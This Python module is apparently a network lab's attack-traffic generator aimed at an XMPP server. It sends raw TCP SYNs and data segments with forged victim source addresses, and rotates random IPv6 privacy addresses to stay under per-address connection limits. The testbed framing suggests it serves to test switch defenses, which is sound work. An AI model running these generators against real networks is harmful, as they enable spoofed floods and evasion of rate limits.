"""Traffic generators for the lab's attacks, run inside a host's namespace (real packets, paced).

    python -m lab.attacks spoof --victim 10.0.0.10 --victim fd..::10 --server 10.0.0.1 --server fd..::1 \
        --dst-mac 02:..  --rate 150 --duration 15 --report r.json
    python -m lab.attacks rotate --prefix fd..:1::/64 --server fd..::1 --count 40 --report r.json

``spoof``: a host on the LAN sends TCP SYNs toward the XMPP port with a
victim's IPv4 and IPv6 source addresses and random source ports (the server's
SYN-ACKs go to the real victim, whose kernel answers RST), plus data segments
with made-up sequence numbers on one source port; built with dpkt, sent on an
AF_PACKET socket with this host's own MAC.

``rotate``: privacy-address rotation: for each of ``count`` random addresses
in ``prefix`` (added with ``nodad``, removed after use), a few real TCP
connections to the server, each sending an XMPP stream header and then
whitespace keepalives one segment at a time, every address well under the
per-address line. Connections the switch drops time out quickly and count as
``refused``.

Both pace their packets (the userspace bridge drops bursts at ingress:
docs/ARCHITECTURE.md, "Facts: Open vSwitch") and write a JSON report.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import os
import random
import secrets
import socket
import subprocess
import time
from pathlib import Path

import dpkt

STREAM_HEADER = ("<?xml version='1.0'?><stream:stream to='{domain}' version='1.0' xmlns='jabber:client' "
                 "xmlns:stream='http://etherx.jabber.org/streams'>")


def _write(report: Path | None, data: dict) -> None:
    if report:
        tmp = report.with_suffix(".tmp")
        tmp.write_text(json.dumps(data))
        os.replace(tmp, report)


def _mac(ifname: str) -> bytes:
    return bytes.fromhex(Path(f"/sys/class/net/{ifname}/address").read_text().strip().replace(":", ""))


def tcp_frame(src_mac: bytes, dst_mac: bytes, src: str, dst: str, sport: int, dport: int, flags: int,
              seq: int, ack: int = 0, payload: bytes = b"") -> bytes:
    """One Ethernet frame carrying a TCP segment over IPv4 or IPv6 (dpkt fills in the checksums)."""
    tcp = dpkt.tcp.TCP(sport=sport, dport=dport, seq=seq, ack=ack, flags=flags, win=64240, data=payload)
    s, d = ipaddress.ip_address(src), ipaddress.ip_address(dst)
    if s.version == 4:
        ip = dpkt.ip.IP(src=s.packed, dst=d.packed, p=dpkt.ip.IP_PROTO_TCP, ttl=64, data=tcp,
                        id=random.getrandbits(16))
        ip.len = len(ip)
        etype = dpkt.ethernet.ETH_TYPE_IP
    else:
        ip = dpkt.ip6.IP6(src=s.packed, dst=d.packed, nxt=dpkt.ip.IP_PROTO_TCP, hlim=64, data=tcp, plen=len(tcp))
        ip.extension_hdrs = {}
        etype = dpkt.ethernet.ETH_TYPE_IP6
    return bytes(dpkt.ethernet.Ethernet(src=src_mac, dst=dst_mac, type=etype, data=ip))


def spoof(args) -> int:
    """SYNs with random source ports and data segments on one port, all in the victims' names."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((args.iface, 0))
    src_mac, dst_mac = _mac(args.iface), bytes.fromhex(args.dst_mac.replace(":", ""))
    pairs = [(v, s) for v in args.victim for s in args.server
             if ipaddress.ip_address(v).version == ipaddress.ip_address(s).version]
    if not pairs:
        raise SystemExit("spoof: no victim and server of the same family")
    sent = {"syn": 0, "data": 0}
    gap, end, nxt = 1.0 / args.rate, time.monotonic() + args.duration, time.monotonic()
    i = 0
    while time.monotonic() < end:
        victim, server = pairs[i % len(pairs)]
        if i % 5 == 4:     # a data segment on one port, sequence and ack numbers made up
            frame = tcp_frame(src_mac, dst_mac, victim, server, args.data_port, args.port,
                              dpkt.tcp.TH_ACK | dpkt.tcp.TH_PUSH, random.getrandbits(32), random.getrandbits(32),
                              b"<message to='sink@pisnoop.test'><body>spoofed</body></message>")
            sent["data"] += 1
        else:
            frame = tcp_frame(src_mac, dst_mac, victim, server, random.randint(1024, 65535), args.port,
                              dpkt.tcp.TH_SYN, random.getrandbits(32))
            sent["syn"] += 1
        sock.send(frame)
        i += 1
        if i % 50 == 0:
            _write(args.report, {"sent": sent, "done": False})
        nxt += gap
        time.sleep(max(0.0, nxt - time.monotonic()))
    _write(args.report, {"sent": sent, "done": True})
    return 0


def _ip(*cmd: str) -> None:
    subprocess.run(["ip", *cmd], check=True, capture_output=True, timeout=10)


def rotate(args) -> int:
    """``count`` random addresses in the prefix, each with a few short connections under the per-address line."""
    net = ipaddress.IPv6Network(args.prefix)
    header = STREAM_HEADER.format(domain=args.domain).encode()
    out = {"addresses": [], "connections": 0, "refused": 0, "packets": 0, "done": False}
    end = time.monotonic() + args.duration
    for _ in range(args.count):
        if time.monotonic() > end:
            break
        addr = str(net[secrets.randbits(64) | 1])          # a random interface id, as privacy addresses have
        _ip("-6", "addr", "add", f"{addr}/{net.prefixlen}", "dev", args.iface, "nodad")
        out["addresses"].append(addr)
        try:
            for _c in range(args.conns):
                s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
                s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                s.settimeout(args.connect_timeout)
                try:
                    s.bind((addr, 0))
                    s.connect((args.server, args.port))
                    out["connections"] += 1
                    s.sendall(header)
                    for _k in range(args.packets):
                        s.send(b" ")                          # a whitespace keepalive: one segment each
                        out["packets"] += 1
                        time.sleep(args.gap)
                except OSError:
                    out["refused"] += 1
                finally:
                    s.close()
        finally:
            _ip("-6", "addr", "del", f"{addr}/{net.prefixlen}", "dev", args.iface)
        _write(args.report, out)
    out["done"] = True
    _write(args.report, out)
    return 0


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(prog="python -m lab.attacks")
    sub = ap.add_subparsers(dest="attack", required=True)
    sp = sub.add_parser("spoof")
    sp.add_argument("--victim", action="append", required=True)
    sp.add_argument("--server", action="append", required=True)
    sp.add_argument("--dst-mac", required=True, help="the next hop toward the server (its MAC)")
    sp.add_argument("--port", type=int, default=5222)
    sp.add_argument("--data-port", type=int, default=40000, help="source port of the spoofed data segments")
    sp.add_argument("--rate", type=float, default=150.0, help="segments per second")
    sp.set_defaults(func=spoof)
    rp = sub.add_parser("rotate")
    rp.add_argument("--prefix", required=True)
    rp.add_argument("--server", required=True)
    rp.add_argument("--port", type=int, default=5222)
    rp.add_argument("--domain", default="pisnoop.test")
    rp.add_argument("--count", type=int, default=40)
    rp.add_argument("--conns", type=int, default=2, help="connections per address")
    rp.add_argument("--packets", type=int, default=60, help="keepalive segments per connection")
    rp.add_argument("--gap", type=float, default=0.004, help="seconds between segments")
    rp.add_argument("--connect-timeout", type=float, default=1.0)
    rp.set_defaults(func=rotate)
    for p in (sp, rp):
        p.add_argument("--iface", default="eth0")
        p.add_argument("--duration", type=float, default=60.0)
        p.add_argument("--report", type=Path)
    args = ap.parse_args(argv)
    return args.func(args)


if __name__ == "__main__":
    raise SystemExit(main())
